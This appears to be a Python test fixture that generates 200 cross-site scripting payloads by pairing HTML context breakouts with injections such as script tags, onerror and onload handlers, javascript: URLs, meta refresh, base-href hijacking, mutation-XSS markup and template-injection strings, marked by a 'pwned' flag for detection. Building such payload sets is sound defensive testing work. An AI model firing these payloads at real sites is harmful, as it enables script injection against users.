"""Texts that try to be more than text on a page: 200 of them, made of a way out and a thing to do.

Each that works leaves a mark that a test can see: window.pwned, an alert, an element that the page
does not have.
"""

WAYS_OUT = ("", '"', "'", '">', "'>", "</title>", "</a>", "</dd></dl>", "--><!--", "]]>", "`>",
            '"/></p>', "\\\">")

DEEDS = (
    "<script>pwned=1</script>",
    "<ScRiPt >alert(1)</sCrIpT >",
    "<img src=x onerror=pwned=1>",
    "<svg/onload=pwned=1>",
    "<iframe srcdoc='<script>top.pwned=1</script>'>",
    " autofocus onfocus=pwned=1 x=",
    "<style>@import 'http://127.0.0.1:9/x';</style>",
    "<a href='javascript:pwned=1' autofocus onfocus='pwned=1'>x</a>",
    "<details open ontoggle=pwned=1>",
    "<math><mtext></form><form><mglyph><img src onerror=pwned=1>",
    "<meta http-equiv=refresh content='0;url=javascript:pwned=1'>",
    "<base href=//127.0.0.1:9/>",
    "&lt;script&gt;pwned=1&lt;/script&gt;&#60;img src=x onerror=pwned=1&#62;",
    "javascript:pwned=1//",
    "{{7*7}}{{#if x}}${pwned=1}<%=pwned=1%>",
    "\u202e\u2028<!--\ufeff<img src=x onerror=pwned=1>",
)

PAYLOADS = tuple(way_out + deed for deed in DEEDS for way_out in WAYS_OUT)[:200]


def packed(size):
    """All of them, as texts of as many as go into @size bytes."""
    texts = [""]
    for payload in PAYLOADS:
        if len((texts[-1] + payload).encode()) > size:
            texts.append("")
        texts[-1] += payload
    return texts
